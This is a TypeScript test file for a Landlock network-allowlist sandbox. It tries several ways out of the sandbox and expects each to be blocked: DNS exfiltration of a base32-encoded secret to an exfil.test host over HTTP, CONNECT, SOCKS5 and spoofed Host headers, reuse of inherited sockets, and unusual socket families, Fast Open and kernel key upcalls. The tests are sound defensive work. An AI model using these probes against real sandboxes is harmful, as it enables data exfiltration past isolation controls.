// Ways off the host a Landlock run with a network allowlist might take without a TCP connect to
// the proxy, tried on the real kernel by this attack round; each held. What is expected comes
// from the kernel's documented errors (EPERM from seccomp) and from what the test's own
// resolver and servers saw, never from the code under test.
import { createSocket } from 'node:dgram';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox, type SubprocessSandbox } from '../src/index.ts';
import { startHttp, type TestServer } from './support/egress-servers.ts';
import { useLandlockBackend } from './support/fake-bwrap.ts';
import { python } from './support/helpers.ts';

const curl = '/usr/bin/curl';
let http: TestServer;
let sandbox: SubprocessSandbox;
/** Every name the proxy asked the resolver for, in order. */
const looked: string[] = [];

// bubblewrap refused, as in a container: the Landlock backend runs the command.
useLandlockBackend();

beforeAll(async () => {
  http = await startHttp((_request, response) => response.end('api\n'));
  sandbox = createSandbox(
    { network: { allow: ['api.test'], allowPrivate: true }, timeoutMs: 30_000 },
    {
      lookup: async (name: string) => {
        looked.push(name);
        return name === 'api.test' ? [{ address: http.address, family: 4 }] : [];
      },
    },
  );
});

afterAll(async () => {
  await sandbox?.close();
  await http?.close();
});

describe('a Landlock run with a network allowlist (held)', () => {
  it('names the allowlist refuses are never resolved: no DNS exfiltration through the host resolver', async () => {
    // A name is data the host's resolver would carry to the name's authoritative server. The
    // proxy must judge the name before it asks: over plain HTTP, CONNECT and SOCKS5, and in a
    // Host header that differs from an allowed URI.
    looked.length = 0;
    const secret = 'onswg4tfoq.exfil.test'; // base32 of "secret": names are case-insensitive
    const script = String.raw`
import os, socket
port = int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1])
s = socket.create_connection(('127.0.0.1', port))
s.sendall(b'GET http://api.test:${http.port}/ HTTP/1.1\r\nHost: host-${secret}\r\n\r\n')
print(s.recv(100).split(b'\r\n')[0].decode())
`;
    const runs = [
      await sandbox.run(curl, [
        '-s',
        '-o',
        '/dev/null',
        '-w',
        '%{http_code}',
        `http://plain-${secret}/`,
      ]),
      await sandbox.run(curl, ['-s', '-o', '/dev/null', `https://connect-${secret}/`]),
      // ALL_PROXY is the run's socks5h:// URL (the name goes to the proxy unresolved).
      await sandbox.run('/bin/sh', [
        '-c',
        `${curl} -s -o /dev/null --proxy "$ALL_PROXY" http://socks-${secret}/`,
      ]),
      await sandbox.run(python, ['-c', script]),
    ];
    expect(runs[0]!.stdout).toBe('403');
    expect(runs[3]!.stdout).toBe('HTTP/1.1 403 Forbidden\n');
    const denied = runs.flatMap((run) => run.network?.denied.map((entry) => entry.host) ?? []);
    expect(denied).toEqual([
      `plain-${secret}`,
      `connect-${secret}`,
      `socks-${secret}`,
      'api.test', // host-mismatch names the URI's host; the Host header's is only in the detail
    ]);
    expect(looked.filter((name) => name.includes('exfil'))).toEqual([]);
  });

  it('no descriptor the command starts with is a socket it could point elsewhere', async () => {
    // Sockets the run inherits (Node's stdio, the host's leftovers) are a way out that needs no
    // socket(): each one found is connected to another loopback address on a port of the test's,
    // which the supervisor must refuse (or the kernel, for a socket already connected).
    const script = `
import ctypes, os, socket, stat, struct
libc = ctypes.CDLL(None, use_errno=True)
to = struct.pack('=H', socket.AF_INET) + struct.pack('!H', ${http.port}) + socket.inet_aton('127.0.0.2') + bytes(8)
for fd in sorted(int(fd) for fd in os.listdir('/proc/self/fd')):
    try: mode = os.fstat(fd).st_mode
    except OSError: continue
    if not stat.S_ISSOCK(mode): print(fd, 'pipe' if stat.S_ISFIFO(mode) else 'other'); continue
    family = socket.socket(fileno=os.dup(fd)).family.name
    r = libc.connect(fd, ctypes.create_string_buffer(to, 16), 16)
    print(fd, family, 'connected' if r == 0 else ctypes.get_errno())
`;
    const result = await sandbox.run(python, ['-c', script]);
    expect(result.stderr).toBe('');
    // stdin, stdout and stderr (Unix socketpairs from Node's spawn here, seen '0 AF_UNIX 13'):
    // pipes or Unix sockets to the host, never an inet socket, and a connect on one never leaves
    // (13: refused by the supervisor; 106: already connected).
    const lines = result.stdout.trim().split('\n');
    expect(lines.map((line) => line.split(' ')[0])).toEqual(['0', '1', '2']);
    for (const line of lines) expect(line).toMatch(/^\d (pipe|AF_UNIX (13|106))$/);
  });

  it('no other protocol, socket family or kernel upcall: MPTCP, ICMP, packet, netlink, vsock, Fast Open in sendmsg/sendmmsg, DNS keys (EPERM)', async () => {
    const udp = createSocket('udp4');
    let datagrams = 0;
    udp.on('message', () => datagrams++);
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    const script = `
import ctypes, os, platform, socket
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
arm = platform.machine() == 'aarch64'
NR_ADD_KEY, NR_REQUEST_KEY, NR_KEYCTL = (217, 218, 219) if arm else (248, 249, 250)
def attempt(name, action):
    try: action(); print(name, 'ok')
    except OSError as e: print(name, e.errno)
def raw(name, nr, *args):
    r = libc.syscall(nr, *args)
    print(name, 'ok' if r >= 0 else ctypes.get_errno())
attempt('mptcp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
attempt('mptcp6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM, 262))
attempt('ping', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
attempt('ping6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6))
attempt('udplite', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136))
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0))
attempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM, 0))
attempt('alg', lambda: socket.socket(38, socket.SOCK_SEQPACKET, 0))
attempt('unix-dgram-pair', lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
s = socket.socket()
target = ('127.0.0.1', ${udp.address().port})
attempt('sendmsg-fastopen', lambda: s.sendmsg([b'tfo'], [], 0x20000000, target))
mm = ctypes.create_string_buffer(64)
r = libc.sendmmsg(s.fileno(), mm, 1, 0x20000000)
print('sendmmsg-fastopen', 'ok' if r >= 0 else ctypes.get_errno())
# The kernel's dns_resolver key type resolves a name through a host upcall (key.dns_resolver).
raw('request_key', NR_REQUEST_KEY, b'dns_resolver', b'onswg4tfoq.exfil.test', None, ctypes.c_long(-4))
raw('add_key', NR_ADD_KEY, b'user', b'x', b'y', 1, ctypes.c_long(-4))
raw('keyctl', NR_KEYCTL, 0, ctypes.c_long(-4), 0)
`;
    try {
      const result = await sandbox.run(python, ['-c', script]);
      expect(result.stderr).toBe('');
      expect(result.stdout.trim().split('\n')).toEqual([
        'mptcp 1', // TCP-like, but Landlock's TCP rules do not see it (Linux 6.14+)
        'mptcp6 1',
        'ping 1',
        'ping6 1',
        'udplite 1',
        'raw 1',
        'packet 1',
        'netlink 1',
        'vsock 1',
        'alg 1',
        'unix-dgram-pair 1',
        'sendmsg-fastopen 1',
        'sendmmsg-fastopen 1',
        'request_key 1',
        'add_key 1',
        'keyctl 1',
      ]);
      expect(datagrams).toBe(0);
    } finally {
      udp.close();
    }
  });
});
